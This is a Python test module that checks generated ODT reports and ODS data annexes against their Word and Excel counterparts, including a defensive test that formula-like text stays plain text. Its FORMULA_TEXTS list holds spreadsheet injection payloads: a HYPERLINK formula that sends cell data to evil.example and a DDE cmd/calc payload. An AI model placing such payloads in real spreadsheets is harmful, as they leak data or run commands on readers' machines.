"""The OpenDocument report (ODT) and data annex (ODS) of the example midterm review, read back with
odfdo and as a raw package: the same chapters, tables and figures as the Word report, the same
sheets and typed cells as the Excel workbook, the marking on every page and in the metadata, and
text that looks like a formula stays text."""

from __future__ import annotations

import dataclasses
import io
import math
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from defusedxml import ElementTree
from docx import Document as WordDocument
from odfdo import Document as OdfDocument
from odfdo import Element
from openpyxl import load_workbook
from tests.report_helpers import example_reports, path_of, threat_theme_titles

from weerbaar.domain import Language
from weerbaar.reports.model import (
    BulletList,
    Heading,
    Paragraph,
    ReportDocument,
    Table,
)
from weerbaar.reports.ods_writer import put_cell
from weerbaar.reports.style import load_style
from weerbaar.reports.writers import render

LANGS: tuple[Language, ...] = ("nl", "en")
MARKING = {"nl": "INTERN", "en": "INTERNAL"}  # the example cycles' content counts as internal
MEDIA = {"odt": "application/vnd.oasis.opendocument.text",
         "ods": "application/vnd.oasis.opendocument.spreadsheet"}
NS = {"manifest": "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0",
      "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
      "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
      "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
      "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0"}
FORMULA_TEXTS = ('=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0",
                 "+31 70 123", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=2+2", "#N/A")


def qn(name: str) -> str:
    prefix, local = name.split(":")
    return f"{{{NS[prefix]}}}{local}"


def odf(lang: Language, fmt: str) -> OdfDocument:
    return OdfDocument(path_of(example_reports(lang), fmt))


def docx_headings(lang: Language) -> list[tuple[int, str]]:
    doc = WordDocument(str(path_of(example_reports(lang), "docx")))
    return [(int(p.style.name[-1]), p.text) for p in doc.paragraphs
            if p.style is not None and p.style.name in ("Heading 1", "Heading 2", "Heading 3")]


def named_style(doc: OdfDocument, name: str, family: str = "paragraph") -> str:
    """The named (common) style a paragraph's style is or derives from; an automatic style that
    is not derived from a named one fails."""
    if doc.styles.get_style(family, name) is not None:
        return name
    automatic = doc.content.get_style(family, name)
    assert automatic is not None, name
    parent = automatic.get_attribute("style:parent-style-name")
    assert isinstance(parent, str) and doc.styles.get_style(family, parent) is not None, name
    return parent


def text_of(element: Element) -> str:
    """A paragraph's or heading's text (tabs and line breaks as characters), or the text of
    the paragraphs inside a cell, header or footer."""
    if element.tag in ("text:p", "text:h"):
        return str(element).removesuffix("\n")
    return element.text_content


# --- the package -----------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("fmt", ["odt", "ods"])
def test_package_has_the_mimetype_first_and_every_part_in_the_manifest(lang: Language,
                                                                       fmt: str) -> None:
    with zipfile.ZipFile(path_of(example_reports(lang), fmt)) as archive:
        first = archive.infolist()[0]
        assert first.filename == "mimetype" and first.compress_type == zipfile.ZIP_STORED
        assert not first.extra  # readers find the media type at a fixed offset
        assert archive.read("mimetype") == MEDIA[fmt].encode()
        manifest = ElementTree.fromstring(archive.read("META-INF/manifest.xml"))
        names = set(archive.namelist())
    entries = {e.get(qn("manifest:full-path")): e.get(qn("manifest:media-type"))
               for e in manifest.iter(qn("manifest:file-entry"))}
    assert entries["/"] == MEDIA[fmt]
    parts = {n for n in names if not n.endswith("/")} - {"mimetype", "META-INF/manifest.xml"}
    assert parts <= set(entries), sorted(parts - set(entries))
    assert {"content.xml", "styles.xml", "meta.xml"} <= parts
    assert not [n for n in names if n.startswith("Thumbnails/")]  # no stale template preview
    pictures = sorted(n for n in parts if n.startswith("Pictures/"))
    assert all(entries[p] == "image/png" for p in pictures)
    if fmt == "odt":
        figures = example_reports(lang).document.figures()
        assert len(pictures) == len(figures) + 1  # and the logo
    else:
        assert not pictures


# --- ODT -------------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGS)
def test_odt_headings_are_the_docx_headings_with_outline_levels(lang: Language) -> None:
    doc = odf(lang, "odt")
    headings = [(int(h.level), text_of(h)) for h in doc.body.headers]
    assert headings == docx_headings(lang)
    document = example_reports(lang).document
    assert headings == [(h.level, h.label) for h in document.headings()]
    level1 = [text for level, text in headings if level == 1]
    themes = threat_theme_titles(lang)
    assert [t for t in level1 if t in themes] == themes  # every theme, in the seed's order
    for h in doc.body.headers:  # a named heading style with the heading's outline level
        style = named_style(doc, str(h.style))
        assert style == f"Heading_20_{int(h.level)}"
        outline = doc.get_style("paragraph", style)
        assert outline is not None
        assert outline.get_attribute("style:default-outline-level") == str(int(h.level))


@pytest.mark.parametrize("lang", LANGS)
def test_odt_tables_are_the_docx_tables_with_repeated_header_rows(lang: Language) -> None:
    word = WordDocument(str(path_of(example_reports(lang), "docx")))
    doc = odf(lang, "odt")
    tables = doc.body.get_tables()
    assert len(tables) == len(word.tables) >= 5
    for table, expected in zip(tables, word.tables, strict=True):
        header_rows = table.get_elements("table:table-header-rows/table:table-row")
        assert len(header_rows) == 1, table.name  # repeated on every page
        header = [text_of(c) for c in header_rows[0].get_elements("table:table-cell")]
        assert header == [c.text for c in expected.rows[0].cells]
        body = table.get_elements("table:table-row")
        assert len(body) == len(expected.rows) - 1
        for row, word_row in zip(body, expected.rows[1:], strict=True):
            assert [text_of(c) for c in row.get_elements("table:table-cell")] == [
                c.text for c in word_row.cells]
        heading_styles = {named_style(doc, str(p.style))
                          for p in header_rows[0].get_elements(".//text:p")}
        assert heading_styles == {"Table_20_Heading"}
        assert {named_style(doc, str(p.style)) for row in body
                for p in row.get_elements(".//text:p")} <= {
            "Table_20_Contents", "Table_20_Contents_20_Right", "Table_20_Contents_20_Centre"}


@pytest.mark.parametrize("lang", LANGS)
def test_odt_figures_are_embedded_with_alternative_text_and_captions(lang: Language) -> None:
    doc = odf(lang, "odt")
    figures = example_reports(lang).document.figures()
    frames = doc.body.get_frames()
    assert [f.name for f in frames] == ["logo"] + [f"figure-{f.key}" for f in figures]
    with zipfile.ZipFile(path_of(example_reports(lang), "odt")) as archive:
        for frame, figure in zip(frames[1:], figures, strict=True):
            image = frame.get_element("draw:image")
            assert image is not None
            url = image.get_attribute("xlink:href")
            assert isinstance(url, str) and archive.read(url) == figure.png
            assert frame.svg_title == figure.caption and frame.svg_description == figure.caption
            holder = frame.parent
            assert holder is not None and named_style(doc, str(holder.style)) == "Figure"
            caption = holder.get_element("following-sibling::*[1]")
            assert caption is not None and caption.style == "Caption"
            assert text_of(caption) == figure.caption


@pytest.mark.parametrize("lang", LANGS)
def test_odt_marks_every_page_and_carries_the_metadata(lang: Language) -> None:
    doc = odf(lang, "odt")
    document = example_reports(lang).document
    masters = {m.get_attribute("style:name"): m
               for m in doc.styles.get_elements("//style:master-page")}
    assert set(masters) == {"Standard", "Landscape"}
    for master in masters.values():
        header, footer = master.get_page_header(), master.get_page_footer()
        assert header is not None and footer is not None
        assert text_of(header) == MARKING[lang]
        assert text_of(footer).startswith(f"{MARKING[lang]} — {document.title} — ")
        assert footer.get_element(".//text:page-number") is not None
        assert footer.get_element(".//text:page-count") is not None
    # every page style the body switches to is one of these marked master pages
    used = {s.get_attribute("style:master-page-name")
            for s in doc.content.get_elements("//style:style[@style:master-page-name]")}
    assert used == {"Standard", "Landscape"}  # wide tables go landscape and back
    meta = doc.meta
    assert meta.title == document.title
    assert meta.subject is not None and "midterm-2021" in meta.subject
    assert meta.keywords is not None and MARKING[lang] in meta.keywords
    assert meta.description is not None and MARKING[lang] in meta.description
    assert meta.language == {"nl": "nl-NL", "en": "en-GB"}[lang]
    assert doc.get_language() == meta.language  # the default style's language too
    assert meta.initial_creator == document.cover.organisation == meta.creator
    assert meta.get_user_defined_metadata() == {"classification": MARKING[lang],
                                                "cycle": "midterm-2021"}
    assert meta.creation_date == datetime(2021, 9, 20, 12, 0)


@pytest.mark.parametrize("lang", LANGS)
def test_odt_has_the_cover_and_a_table_of_contents(lang: Language) -> None:
    doc = odf(lang, "odt")
    document = example_reports(lang).document
    cover = [(p.style, text_of(p)) for p in doc.body.get_elements("text:p")[:12]]
    assert ("Title", document.cover.title) in cover
    assert ("Subtitle", document.cover.subtitle) in cover
    assert [t for s, t in cover if s == "Cover_20_Line"] == list(document.cover.lines)
    assert f"{document.labels['classification']}: {MARKING[lang]}" in document.cover.lines
    toc = doc.body.get_element("text:table-of-content")
    assert toc is not None
    entries = [text_of(p) for p in toc.get_elements("text:index-body/text:p")]
    assert entries == [h.label for h in document.headings() if h.level <= 2]
    title = toc.get_element("text:index-body/text:index-title/text:p")
    assert title is not None and text_of(title) == document.toc_title


@pytest.mark.parametrize("lang", LANGS)
def test_odt_paragraphs_use_named_styles(lang: Language) -> None:
    doc = odf(lang, "odt")
    used = {named_style(doc, str(p.style)) for p in doc.body.get_elements("//text:p")
            if p.style}
    assert {"Text_20_body", "Caption", "Table_20_Caption", "List_20_Bullet", "Note",
            "Warning"} <= used
    # automatic paragraph styles only change the page or the size of a wide table's text
    for auto in doc.content.get_elements("//office:automatic-styles/style:style"
                                         "[@style:family='paragraph']"):
        changes = {k for k in auto.attributes if k not in (
            "style:name", "style:family", "style:parent-style-name", "style:master-page-name")}
        assert not changes, auto.attributes
        props = auto.get_element("style:text-properties")
        assert props is None or set(props.attributes) == {"fo:font-size"}


def example_with(document: ReportDocument, **changes: object) -> ReportDocument:
    return dataclasses.replace(document, **changes)  # type: ignore[arg-type]


def test_odt_keeps_every_text_and_switches_pages_for_wide_tables() -> None:
    base = example_reports("en").document
    wide = Table(key="wide", caption="A wide table", header=("a", "b"), rows=(("=1+1", 2.5),),
                 wide=True)
    blocks = (Heading(1, "Chapter", "c"), Paragraph("Bell\x07 and\ttab", label="Label:"),
              Paragraph("=cmd|' /C calc'!A0", kind="quote"), BulletList(("one", "two")),
              wide, dataclasses.replace(wide, key="wide-2"), Heading(2, "After", "a"),
              Table(key="narrow", caption="Narrow", header=("x",), rows=((None,),)))
    document = example_with(base, blocks=blocks, title="Title & <more>")
    doc = OdfDocument(io.BytesIO(render(document, load_style(None), "odt")))
    paragraphs = [(named_style(doc, str(p.style)), text_of(p), p)
                  for p in doc.body.get_elements("text:p")]
    texts = [t for _, t, _ in paragraphs]
    assert "Label: Bell␇ and\ttab" in texts  # a control character XML cannot carry is shown
    assert ("Quotations", "=cmd|' /C calc'!A0") in [(s, t) for s, t, _ in paragraphs]
    masters = []
    for _, text, p in paragraphs:
        auto = doc.content.get_style("paragraph", str(p.style))
        if auto is not None and auto.get_attribute("style:master-page-name"):
            masters.append((text, auto.get_attribute("style:master-page-name")))
    # one change to landscape for the two wide tables, and back for the heading after them
    assert masters == [("A wide table", "Landscape")]
    heading = doc.body.headers[-1]
    auto = doc.content.get_style("paragraph", str(heading.style))
    assert auto is not None and auto.get_attribute("style:master-page-name") == "Standard"
    assert text_of(heading) == "After"
    footer = doc.styles.get_elements("//style:master-page")[0].get_page_footer()
    assert footer is not None and "Title & <more>" in text_of(footer)


# --- ODS -------------------------------------------------------------------------------------


def same(xlsx: object, ods: object) -> bool:
    if xlsx in (None, "") or ods in (None, ""):
        return xlsx in (None, "") and ods in (None, "")
    if isinstance(xlsx, int | float) and not isinstance(xlsx, bool):
        return isinstance(ods, int | Decimal) and math.isclose(float(ods), xlsx, abs_tol=1e-9)
    return xlsx == ods


@pytest.mark.parametrize("lang", LANGS)
def test_ods_has_the_xlsx_sheets_with_typed_cells(lang: Language) -> None:
    workbook = load_workbook(path_of(example_reports(lang), "xlsx"))
    doc = odf(lang, "ods")
    sheets = doc.body.get_tables()
    assert [s.name for s in sheets] == workbook.sheetnames
    for sheet in sheets:
        ws = workbook[str(sheet.name)]
        expected = [list(r) for r in ws.iter_rows(values_only=True)]
        rows = sheet.get_elements(".//table:table-row")
        assert len(rows) == len(expected), sheet.name
        for r, (row, values) in enumerate(zip(rows, expected, strict=True)):
            cells = row.get_elements("table:table-cell")
            got = [c.value for c in cells] + [None] * (len(values) - len(cells))
            assert all(same(x, o) for x, o in zip(values, got, strict=False)), (sheet.name, r)
            for cell, value in zip(cells, values, strict=False):
                if isinstance(value, str) and value:
                    assert cell.type == "string", (sheet.name, r, value)
                elif isinstance(value, int | float):
                    assert cell.type == "float", (sheet.name, r, value)
        if sheet is not sheets[0]:
            header = sheet.get_elements("table:table-header-rows/table:table-row")
            assert len(header) == 1  # printed on every page
    scores = next(s for s in sheets if s.name == workbook.sheetnames[1])
    floats = [c for c in scores.get_elements(".//table:table-cell")
              if c.type == "float" and "." in str(c.get_attribute("office:value"))]
    assert floats and {c.style for c in floats} == {"Number2"}  # the table's 0.00


@pytest.mark.parametrize("lang", LANGS)
def test_ods_marks_every_page_and_carries_the_metadata(lang: Language) -> None:
    doc = odf(lang, "ods")
    document = example_reports(lang).document
    masters = doc.styles.get_elements("//style:master-page")
    assert len(masters) == 1
    header, footer = masters[0].get_page_header(), masters[0].get_page_footer()
    assert header is not None and text_of(header) == MARKING[lang]
    assert footer is not None and text_of(footer).startswith(MARKING[lang])
    for sheet in doc.body.get_tables():
        style = doc.content.get_style("table", str(sheet.style))
        assert style is not None and style.get_attribute("style:master-page-name") == "Default"
    info = doc.body.get_tables()[0]
    lines = [text_of(c) for c in info.get_elements(".//table:table-cell")]
    assert lines[0] == document.title and f"{document.labels['classification']}: " \
                                            f"{MARKING[lang]}" in lines
    meta = doc.meta
    assert meta.title == document.title and meta.language == {"nl": "nl-NL", "en": "en-GB"}[lang]
    assert meta.get_user_defined_metadata()["classification"] == MARKING[lang]
    assert meta.keywords is not None and MARKING[lang] in meta.keywords


def test_ods_text_that_looks_like_a_formula_stays_text() -> None:
    base = example_reports("en").document
    rows = tuple((text, f"owner {i}", i + 0.5) for i, text in enumerate(FORMULA_TEXTS))
    table = Table(key="scenarios", caption="Scenarios", header=("=Title", "Owner", "Score"),
                  rows=(*rows, ("ctl\x07char", None, math.nan)))
    content = render(example_with(base, data=(table,), blocks=()), load_style(None), "ods")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = ElementTree.fromstring(archive.read("content.xml"))
    assert not [c for c in xml.iter(qn("table:table-cell")) if c.get(qn("table:formula"))]
    sheet = [t for t in xml.iter(qn("table:table")) if t.get(qn("table:name")) == "Scenarios"]
    assert len(sheet) == 1
    cells = [[c for c in row.iter(qn("table:table-cell"))]
             for row in sheet[0].iter(qn("table:table-row"))]

    def shown(cell: object) -> str:  # the text, with ODF's tab, space and line-break elements
        parts = []
        for node in cell.iter():  # type: ignore[attr-defined]
            parts.append({qn("text:tab"): "\t", qn("text:line-break"): "\n"}.get(node.tag, ""))
            if node.tag == qn("text:s"):
                parts.append(" " * int(node.get(qn("text:c"), "1")))
            if node is not cell and node.tail:
                parts.append(node.tail)
            elif node.tag == qn("text:p") and node.text:
                parts.append(node.text)
        return "".join(parts)

    assert shown(cells[0][0]) == "=Title"
    assert cells[0][0].get(qn("office:value-type")) == "string"
    for row, text in zip(cells[1:], FORMULA_TEXTS, strict=False):
        assert row[0].get(qn("office:value-type")) == "string" and shown(row[0]) == text
        assert row[2].get(qn("office:value-type")) == "float"
    last = cells[-1]
    assert shown(last[0]) == "ctl␇char" and last[1].get(qn("office:value-type")) is None
    assert last[2].get(qn("office:value-type")) == "string" and shown(last[2]) == "nan"
    # and as odfdo (and so an office program) reads the cells back
    doc = OdfDocument(io.BytesIO(content))
    values = next(t for t in doc.body.get_tables() if t.name == "Scenarios").get_values()
    assert [r[0] for r in values[1:-1]] == list(FORMULA_TEXTS)
    assert values[1][2] == Decimal("0.5")


@pytest.mark.parametrize(("value", "kind", "attribute", "stored", "text"), [
    ("=1+1", "string", None, None, "=1+1"),
    (3, "float", "office:value", "3", "3"),
    (0.1, "float", "office:value", "0.1", "0.1"),
    (Decimal("2.50"), "float", "office:value", "2.5", "2.5"),
    (True, "boolean", "office:boolean-value", "true", "TRUE"),
    (date(2021, 9, 20), "date", "office:date-value", "2021-09-20", "2021-09-20"),
    (datetime(2021, 9, 20, 14, 0, tzinfo=UTC), "date", "office:date-value",
     "2021-09-20T14:00:00", "2021-09-20 14:00:00"),
    (math.inf, "string", None, None, "inf"),
])
def test_put_cell_types_each_value(value: object, kind: str, attribute: str | None,
                                   stored: str | None, text: str) -> None:
    cell = put_cell(value)  # type: ignore[arg-type]
    assert cell.get_attribute("office:value-type") == kind
    assert cell.get_attribute("table:formula") is None
    if attribute is not None:
        found = cell.get_attribute(attribute)
        assert (str(found).lower() if isinstance(found, bool) else found) == stored
    assert text_of(cell) == text
    assert put_cell(None).get_attribute("office:value-type") is None
    with pytest.raises(TypeError):
        put_cell(object())  # type: ignore[arg-type]


def test_writers_know_both_opendocument_formats(tmp_path: Path) -> None:
    from weerbaar.reports.writers import FORMATS, write

    assert {"odt", "ods"} <= set(FORMATS)
    document = example_reports("nl").document
    path = write(document, load_style(None), "odt", tmp_path / "r.odt")
    assert OdfDocument(path).get_type() == "text"


def test_the_logo_may_be_png_or_jpeg() -> None:
    from weerbaar.errors import InvalidInput
    from weerbaar.reports.odt_writer import picture_kind
    from weerbaar.reports.style import default_template_dir

    png = (default_template_dir() / "logo.png").read_bytes()
    assert picture_kind(png, "logo.png") == ("image/png", "png", (120, 192))
    app0 = b"\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    frame = b"\xff\xc0\x00\x11\x08" + (200).to_bytes(2, "big") + (300).to_bytes(2, "big")
    jpeg = b"\xff\xd8" + app0 + frame + b"\x03\x01\x22\x00" * 3 + b"\xff\xd9"
    assert picture_kind(jpeg, "logo.jpg") == ("image/jpeg", "jpg", (300, 200))
    with pytest.raises(InvalidInput, match=r"logo.gif, key logo: the logo is not a PNG or JPEG"):
        picture_kind(b"GIF89a\x01\x00\x01\x00", "logo.gif")
